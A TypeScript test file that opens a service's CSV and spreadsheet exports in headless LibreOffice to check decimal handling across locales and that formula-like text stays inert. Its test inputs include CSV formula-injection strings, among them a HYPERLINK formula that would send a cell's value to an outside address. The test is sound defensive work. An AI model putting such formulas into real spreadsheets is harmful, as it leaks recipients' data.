/** Our tables as LibreOffice opens them: in a CSV it guesses types by its language, and takes `=1+1` for a formula. */
import { execFile, spawnSync } from "node:child_process";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { promisify } from "node:util";
import t from "tap";
import { reliabilityTable } from "../../../../server/web/board/reliability.js";
import { packagedFile } from "../../../../shared/config/package.js";
import { csvText, type DecimalMark } from "../../../../shared/text/spreadsheet-safe-csv.js";
import { sql } from "../../../../shared/database/pool.js";
import { serve } from "../../../support/api.js";
import { migratedDatabase } from "../../../support/database.js";
import { ago, decide, measured, pastIncident } from "../../../support/fleet.js";
import { workbookOf } from "../../../support/workbook.js";

const missing =
  spawnSync("soffice", ["--version"]).status !== 0 && "soffice is not installed; .ci/run installs it where it may";

interface Cell {
  text: string;
  /** Null: an empty cell. */
  type: string | null;
  /** Of a number or a date, independent of how it is shown. */
  value: string | null;
  formula: boolean;
}

void t.test("a spreadsheet of a CSV table", { skip: missing }, async (t) => {
  const { pool, registry } = await migratedDatabase(t);
  const api = await serve(t, { pool, registry });
  await measured(pool, { from: ago(600), to: ago(0) });
  await pastIncident(pool, { venue: "okx", component: "rest:ticker", startedAt: ago(4_000), minutes: 5 });
  await decide(pool);

  const tables = ["a,b\r\n=1+1,x\r\n", (await api.ask("/v1/targets/okx?format=csv")).text];
  for (const label of labels) {
    await pool.query(sql`
      update component set label = ${label}
      where component = 'rest:ticker' and venue_id = (select venue_id from venue where venue = 'okx')
    `);
    tables.push((await api.ask("/v1/incidents?format=csv&venue=okx")).text);
  }
  const [control, days, ...incidents] = await opened(
    t.testdir(),
    "en-US",
    Object.fromEntries(tables.map((table, nth) => [`table-${nth}.csv`, table])),
  );

  await t.test("executes an unescaped formula, so this test can fail", (t) => {
    t.match(control![1], [{ formula: true, text: "2" }, { formula: false }]);
    t.end();
  });

  await t.test("has a row for each day, and an empty cell for an unmeasured one", (t) => {
    const [header, ...rows] = days!;
    t.equal(rows.length, 90);
    const column = header!.findIndex(({ text }) => text === "uptimePct");
    t.equal(rows[0]![column]!.type, null, "empty, not zero");
    t.match(rows.at(-1)![column], { type: "float", text: "100" });
    t.notOk(rows.flat().some(({ formula }) => formula));
    t.end();
  });

  await t.test("shows a text that looks like a formula as text", (t) => {
    for (const [nth, label] of labels.entries()) {
      const [header, ...rows] = incidents[nth]!;
      t.equal(rows.length, 1, "a line end within a field does not end the row");
      const column = header!.findIndex(({ text }) => text === "label");
      t.equal(rows[0]![column]!.type, "string", JSON.stringify(label));
      t.notOk(rows.flat().some(({ formula }) => formula));
    }
    t.end();
  });
});

const languages = ["en-US", "de-DE", "fr-FR"];

/** Figures that a German spreadsheet misreads with a decimal point: it takes 99.986 for 99,986. */
const reliability = [
  { venue: "kraken", uptimePct: 99.978, coveragePct: 99.986, uptimePctHigh: 99.979, typicalP50Ms: 138 },
  { venue: "gemini", uptimePct: 97.5, coveragePct: 1.12, uptimePctHigh: 100, typicalP50Ms: 107 },
  { venue: "=1+1", uptimePct: null, coveragePct: 0, uptimePctHigh: 12.345, typicalP50Ms: 1_234 },
  { venue: "1.5", uptimePct: 0.001, coveragePct: 75.903, uptimePctHigh: 1.999, typicalP50Ms: null },
].map((row) => ({ generatedAt: "2026-11-28T01:01:52.024Z", flapping: row.typicalP50Ms === 138, ...row }));

function reliabilityCsv(decimal: DecimalMark): string {
  return csvText([Object.keys(reliability[0]!), ...reliability.map((row) => Object.values(row))], decimal);
}

void t.test("a spreadsheet in each language", { skip: missing }, async (t) => {
  const directory = t.testdir();
  const schema = {
    ...reliabilityTable,
    columns: { ...reliabilityTable.columns, flapping: { type: "boolean" as const } },
  };
  const book = await workbookOf(schema, reliability);
  const documented = /`(=DATEVALUE[^`]+)`/.exec(await readFile(packagedFile("docs/api.md"), "utf8"))![1]!;
  const formula = `generatedAt,formula\r\n2026-11-28T01:01:52.024Z,"${documented}"\r\n`;

  const inLanguages = languages.map(async (language) => {
    const folder = join(directory, language);
    const tables = { "workbook.xlsx": book, "plain.csv": reliabilityCsv("point"), "dates.csv": formula };
    const usual = await opened(folder, language, tables);
    // nobody asks for a decimal comma there
    if (language === "en-US") return usual;
    return [...usual, ...(await opened(folder, language, { "comma.csv": reliabilityCsv("comma") }, ";"))];
  });
  for (const [nth, [ofBook, plain, dates, comma]] of (await Promise.all(inLanguages)).entries())
    await t.test(languages[nth]!, (t) => {
      t.strictSame(valuesOf(ofBook!), reliability.map(Object.values), "a workbook has the right values");
      // in the others 99.986 becomes 99986 or a text, so this test can fail
      t.equal(plain![1]![4]!.value === "99.986", comma === undefined, `99.986 became ${plain![1]![4]!.text}`);
      t.match(dates![1]![1], { formula: true, type: "float" }, `${documented} is a date`);
      t.equal(Math.round((Number(dates![1]![1]!.value) - 46_354) * 86_400), 3_712, "in UTC, to the second");
      for (const [at, row] of comma === undefined ? [] : reliability.entries())
        for (const [nth, value] of Object.values(row).entries())
          if (typeof value === "number") t.equal(Number(comma![at + 1]![nth]!.value), value, "with decimal=comma");
      t.end();
    });
});

/** The cells below the header as we wrote them. LibreOffice knows an instant to hundredths of a second. */
function valuesOf([header, ...rows]: Cell[][]): unknown[][] {
  const width = header!.filter(({ type }) => type !== null).length;
  return rows.map((row) =>
    row.slice(0, width).map(({ type, value, text, formula }) => {
      if (type === null) return null;
      if (type === "date") return value!.replace(/^(.{19})\.02$/, "$1.024Z");
      // it has no type for logical values
      if (formula) return /^(TRUE|WAHR|VRAI)$/.test(text) ? true : /^(FALSE|FALSCH|FAUX)$/.test(text) ? false : text;
      return type === "float" ? Number(value) : text;
    }),
  );
}

const labels = [
  ...["@SUM(1)", "+1+1", "-1+1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1"],
  '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
  'a "quoted", one\r\nin two lines',
];

/**
 * Converts all files in one run: starting LibreOffice takes longer than the work.
 *
 * @param tables by the names of their files
 */
async function opened(
  directory: string,
  language: string,
  tables: Record<string, string | Buffer>,
  separator?: ";",
): Promise<Cell[][][]> {
  const profile = join(directory, "profile");
  await mkdir(join(profile, "user"), { recursive: true });
  await writeFile(join(profile, "user", "registrymodifications.xcu"), settingsOf(language));
  const paths = Object.keys(tables).map((name) => join(directory, name));
  for (const [nth, table] of Object.values(tables).entries()) await writeFile(paths[nth]!, table);
  await promisify(execFile)("soffice", [
    // a separate profile: another running instance would accept the request and not execute it
    `-env:UserInstallation=${pathToFileURL(profile).href}`,
    ...["--headless", "--convert-to", "fods", "--outdir", directory],
    // the separator, the quotation mark and UTF-8, by their numbers
    ...(separator === undefined ? [] : [`--infilter=CSV:${separator.charCodeAt(0)},34,76`]),
    ...paths,
  ]);
  return Promise.all(paths.map(async (path) => cellsOf(await readFile(path.replace(/\w+$/, "fods"), "utf8"))));
}

/** Settings of a new profile in which numbers and dates are read as in this language. */
function settingsOf(language: string): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry">
  <item oor:path="/org.openoffice.Setup/L10N">
    <prop oor:name="ooSetupSystemLocale" oor:op="fuse"><value>${language}</value></prop>
  </item>
</oor:items>`;
}

/** The cells of a flat OpenDocument file up to its last filled row. */
function cellsOf(fods: string): Cell[][] {
  const rows: Cell[][] = [];
  for (const [row] of fods.matchAll(/<table:table-row.*?<\/table:table-row>/gs)) {
    const cells = [...row.matchAll(/<table:table-cell([^>]*?)(?:\/>|>(.*?)<\/table:table-cell>)/gs)].flatMap(
      ([, attributes = "", inner = ""]) => {
        const cell: Cell = {
          text: inner.replaceAll(/<[^>]*>/g, "").trim(),
          type: /office:value-type="(\w+)"/.exec(attributes)?.[1] ?? null,
          value: /office:(?:date-)?value="([^"]*)"/.exec(attributes)?.[1] ?? null,
          formula: attributes.includes("table:formula="),
        };
        const times = /number-columns-repeated="(\d+)"/.exec(attributes)?.[1];
        return Array<Cell>(Number(times ?? 1)).fill(cell);
      },
    );
    if (cells.some(({ type }) => type !== null)) rows.push(cells);
  }
  return rows;
}
